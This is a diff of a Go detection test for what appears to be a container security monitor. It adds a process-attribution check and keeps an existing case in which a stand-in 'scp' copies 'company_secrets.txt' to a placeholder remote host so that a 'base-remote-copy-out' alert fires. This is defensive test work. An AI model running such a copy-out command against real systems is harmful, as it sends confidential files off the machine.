@@ -47,6 +47,11 @@ func TestStories(t *testing.T) {
 		}
 	}
 
+	docker(t, "exec", nginx, "sh", "-c", "sleep 0.01 ; exit") // which the shell may run as /proc/self/exe
+	if e := a.executed("0.01"); e.Process.Name != "sleep" {
+		t.Errorf("an applet of the shell is %q", e.Process.Name)
+	}
+
 	asUser(t, []string{environ}, named(t, built(t, standin), "scp"), "company_secrets.txt", "somebody@elsewhere.example:host")
 	e := a.alert("base-remote-copy-out")
 	if e.Container != nil || e.Event.Severity != 3 || e.Tswatch.Attribution.Method != "host" || e.Process.PID != s.Visitor("scp").Host {
